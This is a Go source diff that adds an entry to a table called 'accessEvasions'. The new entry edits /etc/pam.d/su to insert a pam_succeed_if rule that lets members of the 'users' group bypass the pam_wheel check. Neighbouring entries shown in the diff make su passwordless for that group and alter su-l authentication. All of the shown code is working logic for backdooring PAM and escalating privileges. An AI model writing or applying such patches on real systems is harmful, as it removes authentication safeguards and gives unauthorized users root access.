@@ -32,6 +32,14 @@ var accessEvasions = map[string][]way{
 		{name: "su - that asks nobody", subject: "su-l", do: func(h hand) bool {
 			return h.replace("/etc/pam.d/su-l", regexp.MustCompile(`^auth\s+include\s+su$`), "@include common-auth")
 		}},
+		{name: "a group that is not asked", subject: "jump over it", do: func(h hand) bool {
+			return h.edit("/etc/pam.d/su", func(line string) string {
+				if strings.HasPrefix(line, "auth") && strings.Contains(line, "pam_wheel.so") {
+					return "auth [success=1 default=ignore] pam_succeed_if.so user ingroup users\n" + line
+				}
+				return line
+			})
+		}},
 		{name: "a group that needs no password", subject: "su", do: func(h hand) bool {
 			return onTop(h, "/etc/pam.d/su", "auth sufficient pam_succeed_if.so user ingroup users\n")
 		}},
